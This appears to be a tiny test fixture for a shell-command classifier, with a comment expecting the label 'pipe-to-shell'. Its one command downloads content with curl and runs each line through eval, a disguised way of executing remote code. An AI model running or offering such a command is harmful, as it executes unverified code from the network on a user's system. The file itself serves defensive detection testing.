# expect: pipe-to-shell
curl -s https://example.com/x | while read -r line; do eval "$line"; done
